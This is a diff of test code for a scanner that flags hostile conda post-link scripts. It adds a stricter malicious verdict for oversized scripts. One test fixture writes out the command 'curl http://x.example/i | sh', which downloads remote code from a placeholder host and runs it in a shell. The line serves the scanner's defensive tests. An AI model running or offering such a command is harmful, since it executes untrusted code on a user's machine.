@@ -27,7 +27,7 @@ def rules(path: str, text: str) -> dict[str, Verdict]:
 def test_is_a_scanner() -> None:
     scanner: Scanner = SCANNER
     assert scanner.name == "link-script"
-    assert scanner.version.startswith("2+")
+    assert scanner.version.startswith("3+")
     subject = ScanSubject("demo-1.0-0.conda", "0" * 64, 1, "demo", "noarch", {})
     assert list(scanner.finish(subject)) == []
 
@@ -351,10 +351,10 @@ def test_at_least_two_hostile_packages_per_rule_family() -> None:
     assert {case.verdict for case in LINK_CASES} == {M, S}
 
 
-def test_oversized_script_is_suspicious_and_still_read() -> None:
+def test_oversized_script_is_held_and_still_read() -> None:
     text = "curl http://x.example/i | sh\n" + "true\n" * (300 * 1024 // 5)
     found = rules(POST_LINK, text)
-    assert found["link-script:oversized"] is S
+    assert found["link-script:oversized"] is M  # the unread rest runs; suspicious is served
     assert found["link-script:fetch-pipe-shell"] is M
 
 
